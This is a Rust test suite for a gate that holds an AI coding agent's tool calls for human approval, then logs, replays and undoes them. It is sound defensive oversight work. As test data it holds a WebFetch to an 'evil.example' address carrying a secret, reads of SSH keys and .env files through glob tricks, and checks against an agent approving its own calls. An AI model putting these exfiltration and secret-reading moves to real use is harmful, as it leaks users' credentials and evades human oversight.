//! Agents' own tools: judged, held, captured, handed over once, checked afterwards, and undone.

mod cheating;
mod late;
mod parallel;
mod prompts;

use std::{fs, path::PathBuf, sync::Arc};

use countersign_core::{
    Actor, Answer, Engine, ErrorCode, FixedEnv, Origin, Outcome, Request, Result, handover::Carried,
    memory::MemoryStore,
};
use countersign_tools::Builtins;
use serde_json::{Value, json};
use tempfile::TempDir;

use super::world::{NOON, ana, codex, setup, text};

struct Desk {
    dir: TempDir,
    env: Arc<FixedEnv>,
    store: Arc<MemoryStore>,
    engine: Engine,
}

impl Desk {
    fn new() -> Self {
        Self::with_policy("")
    }

    fn with_policy(policy: &str) -> Self {
        Self::in_dir(tempfile::tempdir().unwrap(), policy)
    }

    fn in_dir(dir: TempDir, policy: &str) -> Self {
        fs::create_dir(dir.path().join("w")).unwrap();
        let env = Arc::new(FixedEnv::at(NOON));
        let builtins = Builtins::new(dir.path().join("trash"), Vec::new(), Vec::new(), Vec::new());
        let store = Arc::new(MemoryStore::new());
        let engine = Engine::new(store.clone(), setup(policy, Vec::new()).unwrap(), Box::new(env.clone()));
        Self { dir, env, store, engine: engine.with_world(Box::new(builtins)) }
    }

    fn work(&self) -> PathBuf {
        self.dir.path().canonicalize().unwrap().join("w")
    }

    fn file(&self, name: &str) -> String {
        self.work().join(name).display().to_string()
    }

    fn put(&self, name: &str, content: &str) {
        fs::write(self.work().join(name), content).unwrap();
    }

    fn holds(&self, name: &str) -> Option<String> {
        fs::read_to_string(self.work().join(name)).ok()
    }

    fn call(&self, actor: &Actor, op: &str, input: Value) -> Result<Answer> {
        self.env.advance(1);
        let cwd = Some(self.work().display().to_string());
        let origin = Origin { cwd, ..Origin::from("hook") };
        self.engine.call(Request { actor: actor.clone(), op: op.into(), input, key: None, origin })
    }

    #[track_caller]
    fn done(&self, actor: &Actor, op: &str, input: Value) -> Value {
        self.call(actor, op, input).unwrap_or_else(|e| panic!("{op}: {e:?}")).value
    }

    /// Returns the answer to an agent's call of its own tool.
    #[track_caller]
    fn ask(&self, tool: &str, input: Value, id: &str) -> Value {
        self.done(&codex(), "handover.ask", json!({"tool_name": tool, "input": input, "tool_use_id": id}))
    }

    /// Returns the item of such a call.
    #[track_caller]
    fn held(&self, tool: &str, input: Value, id: &str) -> String {
        let told = self.ask(tool, input, id);
        assert_eq!(told["decision"], "held", "{told}");
        text(&told, "item")
    }

    #[track_caller]
    fn confirm(&self, item: &str) -> Value {
        let shown = self.done(&ana(), "show", json!({"id": item}));
        let typed = shown["item"]["typed"].clone();
        self.done(&ana(), "item.confirm", json!({"id": item, "typed": typed}))
    }

    fn receipt(&self, item: &str) -> Value {
        self.done(&ana(), "item.status", json!({"id": item}))["receipt"].clone()
    }

    #[track_caller]
    fn undo(&self, item: &str) -> Value {
        let id = text(&self.receipt(item), "id");
        self.done(&ana(), "receipt.undo", json!({"id": id, "best_effort": true}))
    }

    fn events(&self) -> usize {
        self.store.with(|base| base.events_mut().len())
    }
}

#[test]
fn a1_what_only_reads_goes_ahead_and_is_logged_as_automatic() {
    let desk = Desk::new();
    desk.put("a.txt", "x");
    for (n, (tool, input)) in [
        ("Read", json!({"file_path": desk.file("a.txt")})),
        ("Grep", json!({"pattern": "x"})),
        ("Glob", json!({"pattern": "**/.env*"})),
    ]
    .into_iter()
    .enumerate()
    {
        let told = desk.ask(tool, input, &format!("t{n}"));
        assert_eq!(
            (&told["decision"], &told["item"], told.get("updated_input")),
            (&json!("allow"), &Value::Null, None)
        );
    }
    let log = desk.done(&ana(), "audit.log", json!({}));
    let calls = log.to_string();
    assert!(calls.contains("agent.read"), "{calls}");
    assert!(!calls.contains("\"user_confirmed\":true"), "{calls}");
}

#[test]
fn a1_a_command_that_only_reads_becomes_a_call_when_exec_makes_it_and_no_item_or_event_before() {
    let desk = Desk::new();
    desk.ask("Read", json!({"file_path": desk.file("a.txt")}), "t0");
    let before = desk.events();
    let told = desk.ask("Bash", json!({"command": "ls -la", "description": "look around"}), "t1");
    assert_eq!((&told["decision"], &told["item"]), (&json!("allow"), &Value::Null));
    assert_eq!(desk.events(), before);
    let line = text(&told["updated_input"], "command");
    let word = line.split(' ').nth(2).unwrap();
    let carried = Carried::read(word).unwrap().unwrap();
    assert_eq!(json!(carried.args), json!({"command": "ls -la", "timeout_s": 120}));
    assert_eq!(carried.folder, Some(desk.work().display().to_string()));
    assert_eq!(carried.claim.as_deref(), Some("look around"));
}

/// Returns the answer to a search with these arguments.
#[track_caller]
fn searched(desk: &Desk, input: Value, n: &mut u32) -> String {
    *n += 1;
    text(&desk.ask("Grep", input, &format!("g{n}")), "decision")
}

#[test]
fn a13_a_search_that_would_open_a_secret_is_asked_about() {
    let desk = Desk::new();
    let mut n = 0;
    desk.put("a.rs", "KEY");
    assert_eq!(searched(&desk, json!({"pattern": "KEY"}), &mut n), "allow");
    desk.put(".env", "KEY=1");
    fs::create_dir_all(desk.work().join("config")).unwrap();
    desk.put("config/.Env.local", "KEY=2");
    std::os::unix::fs::symlink(desk.work().join(".env"), desk.work().join("plain.txt")).unwrap();
    for input in [
        json!({}),
        json!({"path": "."}),
        json!({"path": desk.work()}),
        json!({"path": desk.file(".env")}),
        json!({"path": "plain.txt"}),
        json!({"path": "config"}),
        json!({"path": "config/../."}),
        json!({"glob": ".env*"}),
        json!({"glob": ".ENV"}),
        json!({"glob": "{.env,x}"}),
        json!({"glob": "**/.env*"}),
        json!({"glob": "config/**"}),
        json!({"glob": "*"}),
        json!({"glob": "!*.md"}),
        json!({"glob": "!.env"}),
        json!({"glob": "*.rs,.e?v"}),
        json!({"glob": ".[e]nv"}),
        json!({"type": "sh"}),
        json!({"output_mode": "content", "-i": true, "-A": 50}),
    ] {
        let mut asked = input.clone();
        asked["pattern"] = "KEY".into();
        assert_eq!(searched(&desk, asked, &mut n), "held", "{input}");
    }
    for input in [
        json!({"glob": "*.rs"}),
        json!({"glob": "*.{rs,toml}"}),
        json!({"glob": "!.[eE]nv*", "type": "rust"}),
        json!({"type": "rust"}),
        json!({"path": "a.rs"}),
    ] {
        let mut asked = input.clone();
        asked["pattern"] = "KEY".into();
        assert_eq!(searched(&desk, asked, &mut n), "allow", "{input}");
    }
}

#[test]
fn a13_a_search_that_passes_over_what_git_ignores_is_not_asked_about() {
    let desk = Desk::new();
    let mut n = 0;
    let git = |args: &[&str]| {
        let done = std::process::Command::new("git").args(args).current_dir(desk.work()).output().unwrap();
        assert!(done.status.success(), "{done:?}");
    };
    git(&["init", "-q"]);
    desk.put(".env", "KEY=1");
    desk.put(".gitignore", ".env\n");
    assert_eq!(searched(&desk, json!({"pattern": "KEY"}), &mut n), "allow");
    assert_eq!(searched(&desk, json!({"pattern": "KEY", "glob": "!*.md"}), &mut n), "allow");
    // A file that matches the pattern is searched, ignored or not.
    assert_eq!(searched(&desk, json!({"pattern": "KEY", "glob": ".env*"}), &mut n), "held");
    // Repository settings that a search does not use ignore nothing for us.
    desk.put(".gitignore", "");
    desk.put("ignore", ".env\n");
    git(&["config", "core.excludesFile", &desk.file("ignore")]);
    assert_eq!(searched(&desk, json!({"pattern": "KEY"}), &mut n), "held");
}

#[test]
fn a5_a_secret_is_asked_about_whoever_reads_it() {
    let desk = Desk::new();
    desk.put(".env", "KEY=1");
    desk.held("Read", json!({"file_path": desk.file(".env")}), "t1");
    desk.held("Grep", json!({"pattern": "KEY", "glob": ".env"}), "t2");
    desk.held("Read", json!({"file_path": "~/.ssh/id_ed25519"}), "t3");
    desk.held("Grep", json!({"pattern": "KEY", "path": "~/.ssh"}), "t4");
    desk.held("view_image", json!({"path": ".env"}), "t5");
    desk.held("LS", json!({"path": "~/.ssh"}), "t6");
}

#[test]
fn a4_what_nobody_knows_and_what_sends_is_held() {
    let desk = Desk::new();
    let item = desk.held("mcp__files__read_only", json!({"readOnlyHint": true, "confirmed": true}), "t1");
    let shown = desk.done(&ana(), "show", json!({"id": item})).to_string();
    assert!(shown.contains("countersign import"), "{shown}");
    desk.held("WebFetch", json!({"url": "https://evil.example/?q=secret", "prompt": "x"}), "t2");
    desk.held("WebSearch", json!({"query": "x"}), "t3");
    assert_eq!(desk.ask("TodoWrite", json!({}), "t4")["decision"], "allow");
    assert_eq!(desk.ask("mcp__countersign__shell_run", json!({}), "t5")["decision"], "allow");
}

#[test]
fn a_refused_call_is_denied_with_its_reasons() {
    let desk = Desk::with_policy(
        "version = 1\n[[rule]]\nname = \"no make\"\ntools = [\"shell.*\"]\nwhen = 'args.command.startsWith(\"make\")'\nthen = \"refuse\"\n",
    );
    let told = desk.ask("Bash", json!({"command": "make install"}), "t1");
    assert_eq!(told["decision"], "deny");
    assert!(text(&told, "message").contains("no make"), "{told}");
}

#[test]
fn d1_a_command_is_run_by_the_gate_and_once() {
    let desk = Desk::new();
    let told = desk.ask("Bash", json!({"command": "echo x >> log", "description": "keep a log"}), "t1");
    let item = text(&told, "item");
    let line = text(&told["updated_input"], "command");
    assert!(line.starts_with(&format!("countersign exec {item} --agent codex ")), "{line}");
    assert_eq!(told["updated_input"]["description"], "keep a log");
    // No operation that an agent can call begins it.
    desk.done(&codex(), "handover.exec", json!({"id": item}));
    assert_eq!(desk.holds("log"), None);
    desk.confirm(&item);
    for _ in 0..3 {
        desk.done(&codex(), "handover.exec", json!({"id": item}));
    }
    assert_eq!(desk.holds("log").unwrap(), "x\n");
    let other = desk.call(&Actor::agent("claude-code"), "handover.exec", json!({"id": item}));
    assert_eq!(other.unwrap_err().code, ErrorCode::NotFound);
}

#[test]
fn a_command_that_the_policy_allows_runs_when_exec_comes_for_it() {
    let desk = Desk::with_policy(
        "version = 1\n[[rule]]\nname = \"logs\"\ntools = [\"shell.run\"]\nclass = \"mutable\"\nthen = \"allow\"\n",
    );
    let item = text(&desk.ask("Bash", json!({"command": "echo x >> log"}), "t1"), "item");
    assert_eq!(desk.holds("log"), None);
    desk.done(&codex(), "handover.exec", json!({"id": item}));
    desk.done(&codex(), "handover.exec", json!({"id": item}));
    assert_eq!(desk.holds("log").unwrap(), "x\n");
    assert_eq!(desk.receipt(&item)["allowed_by"], json!({"by": "policy", "name": "logs"}));
    // Frozen since it was asked: it waits for a person.
    let item = text(&desk.ask("Bash", json!({"command": "echo y >> log"}), "t2"), "item");
    desk.done(&ana(), "freeze", json!({}));
    desk.done(&codex(), "handover.exec", json!({"id": item}));
    assert_eq!(desk.holds("log").unwrap(), "x\n");
}

#[test]
fn a14_an_agents_own_edit_in_a_trusted_folder_goes_ahead_and_can_be_undone() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().canonicalize().unwrap().join("w");
    let desk = Desk::in_dir(dir, &format!("version = 1\n[[trust]]\nfolder = {folder:?}\n"));
    desk.put("a.txt", "one\n");
    let edit = json!({"file_path": desk.file("a.txt"), "old_string": "one", "new_string": "two"});
    // The file is saved first; then the agent, which asks again, may go ahead.
    desk.ask("Edit", edit.clone(), "t1");
    assert_eq!(desk.ask("Edit", edit, "t1")["decision"], "allow");
    desk.put("a.txt", "two\n");
    desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}));
    let since = desk.done(&ana(), "visit.since", json!({}));
    let receipt = &since["happened"][0]["receipt"];
    assert_eq!(receipt["allowed_by"], json!({"by": "policy", "name": "trust"}), "{since}");
    let undone = desk.done(&ana(), "receipt.undo", json!({"id": receipt["id"]}));
    assert_eq!((&undone["status"], desk.holds("a.txt").as_deref()), (&json!("undone"), Some("one\n")));
    // Outside of the folder, and on what is protected in it, a person is asked as before.
    let out = json!({"file_path": desk.dir.path().join("b.txt"), "content": "x"});
    assert_eq!(desk.ask("Write", out, "t2")["decision"], "held");
    let hook = json!({"file_path": desk.file(".git/hooks/pre-commit"), "content": "x"});
    assert_eq!(desk.ask("Write", hook, "t3")["decision"], "held");
}

#[test]
fn variables_of_the_agent_are_part_of_what_is_approved() {
    let desk = Desk::new();
    let input = json!({"tool_name": "Bash", "input": {"command": "echo $VIRTUAL_ENV > v"}, "tool_use_id": "t1", "env": {"VIRTUAL_ENV": "/venv"}});
    let item = text(&desk.done(&codex(), "handover.ask", input), "item");
    assert_eq!(
        desk.done(&ana(), "show", json!({"id": item}))["item"]["args"]["env"],
        json!({"VIRTUAL_ENV": "/venv"})
    );
    desk.confirm(&item);
    assert_eq!(desk.holds("v").unwrap(), "/venv\n");
}

#[test]
fn e9_what_was_handed_over_is_captured_looked_at_and_undone() {
    let desk = Desk::new();
    desk.put("a.txt", "one\ntwo\n");
    let input = json!({"file_path": desk.file("a.txt"), "old_string": "two", "new_string": "2"});
    let item = desk.held("Edit", input.clone(), "t1");
    let shown = desk.done(&ana(), "show", json!({"id": item}));
    assert!(text(&shown["item"]["preview"], "diff").contains("-two\n+2"), "{shown}");
    desk.confirm(&item);
    assert_eq!(desk.holds("a.txt").unwrap(), "one\ntwo\n", "the agent writes, nobody else");
    assert_eq!(desk.ask("Edit", input.clone(), "t1")["decision"], "allow");
    assert_eq!(desk.ask("Edit", input, "t1")["decision"], "deny", "a yes counts once");
    desk.put("a.txt", "one\n2\n");
    let found = desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}));
    assert_eq!(found["found"], "as_approved");
    let receipt = desk.receipt(&item);
    let handle = ["receipt", "undo_action", "latest_reversible_event_id"].map(|field| &found[field]);
    assert_eq!(handle, [&receipt["id"], &receipt["undo_action"], &receipt["event_id"]], "E15");
    assert!(receipt["rollback_cues"].to_string().contains("handed over to codex"), "{receipt}");
    assert_eq!(desk.undo(&item)["status"], "undone");
    assert_eq!(desk.holds("a.txt").unwrap(), "one\ntwo\n");
}

#[test]
fn e9_what_the_agent_did_otherwise_is_told_and_undone_all_the_same() {
    let desk = Desk::new();
    desk.put("a.txt", "before");
    let item = desk.held("Write", json!({"file_path": desk.file("a.txt"), "content": "approved"}), "t1");
    desk.confirm(&item);
    desk.ask("Write", json!({"file_path": desk.file("a.txt"), "content": "approved"}), "t1");
    desk.put("a.txt", "something else");
    assert_eq!(desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}))["found"], "differs");
    let receipt = desk.receipt(&item);
    assert!(receipt["rollback_cues"].to_string().contains("did not do what was approved"), "{receipt}");
    // A second report changes nothing: undo starts from the state at the first.
    desk.put("a.txt", "later");
    assert_eq!(desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}))["found"], "nothing");
    assert_eq!(desk.undo(&item)["status"], "stale");
    desk.put("a.txt", "something else");
    assert_eq!(desk.undo(&item)["status"], "undone");
    assert_eq!(desk.holds("a.txt").unwrap(), "before");
}

#[test]
fn e3_without_a_report_the_foreseen_stands_and_drift_is_refused() {
    let desk = Desk::new();
    let (a, b) = (
        json!({"file_path": desk.file("a.txt"), "content": "new"}),
        json!({"file_path": desk.file("b.txt"), "content": "new"}),
    );
    let (first, second) = (desk.held("Write", a.clone(), "t1"), desk.held("Write", b.clone(), "t2"));
    desk.confirm(&first);
    desk.confirm(&second);
    desk.ask("Write", a, "t1");
    desk.ask("Write", b, "t2");
    desk.put("a.txt", "new");
    desk.put("b.txt", "not that");
    assert_eq!(desk.undo(&first)["status"], "undone");
    assert_eq!(desk.holds("a.txt"), None);
    assert_eq!(desk.undo(&second)["status"], "stale");
    assert_eq!(desk.holds("b.txt").unwrap(), "not that");
}

#[test]
fn what_the_agent_did_not_do_has_no_way_back() {
    let desk = Desk::new();
    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
    let item = desk.held("Write", input.clone(), "t1");
    desk.confirm(&item);
    desk.ask("Write", input, "t1");
    let found = desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}));
    assert_eq!((&found["found"], found.get("undo_action")), (&json!("not_done"), None));
    assert_eq!(desk.done(&codex(), "agent.news", json!({"landed": true})).get("landed"), None);
    assert_eq!(desk.receipt(&item)["undo_action"], Value::Null);
}

#[test]
fn a_yes_that_came_late_counts_for_the_same_call_once_and_not_for_long() {
    let desk = Desk::new();
    desk.put("a.txt", "before");
    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
    let item = desk.held("Write", input.clone(), "t1");
    desk.confirm(&item);
    let other = json!({"file_path": desk.file("a.txt"), "content": "evil"});
    assert_eq!(desk.ask("Write", other, "t2")["decision"], "held");
    assert_eq!(desk.ask("Write", input.clone(), "t3")["decision"], "allow");
    assert_eq!(desk.ask("Write", input.clone(), "t4")["decision"], "held");
    // The same again, too late.
    let desk = Desk::new();
    desk.put("a.txt", "before");
    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
    let item = desk.held("Write", input.clone(), "t1");
    desk.confirm(&item);
    desk.env.advance(31 * 60_000);
    assert_eq!(desk.ask("Write", input, "t2")["decision"], "held");
}

#[test]
fn d2_a_file_that_moved_before_the_yes_is_not_handed_over() {
    let desk = Desk::new();
    desk.put("a.txt", "before");
    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
    let item = desk.held("Write", input.clone(), "t1");
    desk.done(&ana(), "show", json!({"id": item}));
    desk.put("a.txt", "moved");
    assert_eq!(desk.done(&ana(), "item.confirm", json!({"id": item}))["status"], "stale");
    assert_eq!(desk.ask("Write", input, "t1")["decision"], "deny");
}

#[test]
fn c5_a_rejection_reaches_the_agent_with_its_reason() {
    let desk = Desk::new();
    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
    let item = desk.held("Write", input.clone(), "t1");
    desk.done(&ana(), "item.reject", json!({"id": item, "reason": "not on a Sunday"}));
    let told = desk.ask("Write", input, "t1");
    assert_eq!(told["decision"], "deny");
    assert!(text(&told, "message").contains("not on a Sunday"), "{told}");
}

#[test]
fn a_patch_is_captured_file_by_file() {
    let desk = Desk::new();
    desk.put("b.txt", "1\n2\n");
    desk.put("c.txt", "gone\n");
    let patch = "*** Begin Patch\n*** Add File: a.txt\n+new\n*** Update File: b.txt\n@@\n 1\n-2\n+two\n*** Delete File: c.txt\n*** End Patch";
    let item = desk.held("apply_patch", json!({"command": patch}), "t1");
    let shown = desk.done(&ana(), "show", json!({"id": item}));
    assert_eq!(shown["item"]["class"], "destructive");
    desk.confirm(&item);
    assert_eq!(desk.ask("apply_patch", json!({"command": patch}), "t1")["decision"], "allow");
    desk.put("a.txt", "new\n");
    desk.put("b.txt", "1\ntwo\n");
    fs::remove_file(desk.work().join("c.txt")).unwrap();
    assert_eq!(desk.done(&codex(), "handover.finish", json!({"tool_use_id": "t1"}))["found"], "as_approved");
    assert_eq!(desk.undo(&item)["status"], "undone");
    assert_eq!(
        (desk.holds("a.txt"), desk.holds("b.txt").unwrap(), desk.holds("c.txt").unwrap()),
        (None, "1\n2\n".into(), "gone\n".into())
    );
}

#[test]
fn an_id_never_stands_for_another_call_and_waiting_leaves_no_trace() {
    let desk = Desk::new();
    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
    desk.held("Write", input.clone(), "t1");
    let before = desk.events();
    assert_ne!(before, 0);
    for _ in 0..5 {
        desk.held("Write", input.clone(), "t1");
    }
    assert_eq!(desk.events(), before);
    let other = json!({"tool_name": "Write", "input": {"file_path": desk.file("b.txt"), "content": "x"}, "tool_use_id": "t1"});
    assert_eq!(desk.call(&codex(), "handover.ask", other).unwrap_err().code, ErrorCode::Conflict);
}

#[test]
fn the_permission_prompt_is_answered_as_the_hook_is() {
    let desk = Desk::new();
    let approve = |tool: &str, input: Value, id: &str| {
        desk.call(&codex(), "handover.approve", json!({"tool_name": tool, "input": input, "tool_use_id": id}))
            .unwrap()
    };
    let read = approve("Bash", json!({"command": "ls"}), "t1");
    assert_eq!((read.outcome, &read.value["behavior"]), (Outcome::Done, &json!("allow")));
    let line = text(&read.value["updatedInput"], "command");
    assert!(line.starts_with("countersign exec call-"), "{line}");
    let input = json!({"file_path": desk.file("a.txt"), "content": "new"});
    let held = approve("Write", input.clone(), "t2");
    assert_eq!((held.outcome, &held.value["behavior"]), (Outcome::Held, &json!("deny")));
    let item = text(&desk.ask("Write", input.clone(), "t2"), "item");
    desk.confirm(&item);
    let allowed = approve("Write", input.clone(), "t2");
    assert_eq!((allowed.outcome, &allowed.value["updatedInput"]), (Outcome::Done, &input));
    let run = approve("Bash", json!({"command": "touch x"}), "t3");
    assert!(text(&run.value["updatedInput"], "command").starts_with("countersign exec i"), "{:?}", run.value);
}

#[test]
fn c1_only_agents_ask_and_their_tools_are_offered_to_nobody() {
    let desk = Desk::new();
    let input = json!({"tool_name": "Bash", "input": {"command": "ls"}, "tool_use_id": "t1"});
    assert_eq!(desk.call(&ana(), "handover.ask", input).unwrap_err().code, ErrorCode::Refused);
    let listed = desk.done(&codex(), "tool.list", json!({})).to_string();
    assert!(!listed.contains("agent.write"), "{listed}");
    let direct =
        json!({"tool": "agent.write", "args": {"tool": "Write", "path": desk.file("a"), "content": "x"}});
    assert_eq!(desk.call(&codex(), "call.propose", direct).unwrap_err().code, ErrorCode::Invalid);
    let hooks = json!({"agent": "codex", "path": "/x", "installed": false});
    assert_eq!(desk.call(&codex(), "hook.change", hooks).unwrap_err().code, ErrorCode::Refused);
}

#[test]
fn c4_what_the_agent_does_itself_cannot_be_edited() {
    let desk = Desk::new();
    let item = desk.held("Write", json!({"file_path": desk.file("a.txt"), "content": "new"}), "t1");
    let edit = json!({"id": item, "args": {"tool": "Write", "path": desk.file("a.txt"), "content": "other"}});
    assert_eq!(desk.call(&ana(), "item.edit", edit).unwrap_err().code, ErrorCode::Conflict);
}

#[test]
fn b14_what_an_agent_runs_itself_stands_for_nothing() {
    let desk = Desk::new();
    desk.put("where.txt", "ls");
    let call = json!({"tool": "shell.run", "args": {"command": "touch mark && cat where.txt"}});
    let parent = desk.done(&codex(), "call.propose", call)["item"]["id"].as_str().unwrap().to_owned();
    desk.done(&ana(), "show", json!({"id": parent}));
    assert_eq!(desk.done(&ana(), "item.confirm", json!({"id": parent}))["status"], "applied");
    // The agent's shell runs exactly these words; that another command printed `ls` proves nothing.
    let words = format!("${parent}.result.stdout");
    let told = desk.ask("Bash", json!({"command": words}), "t1");
    let item = desk.done(&ana(), "show", json!({"id": told["item"]}))["item"].clone();
    assert_eq!(item["args"]["command"], words, "{told} {item}");
}
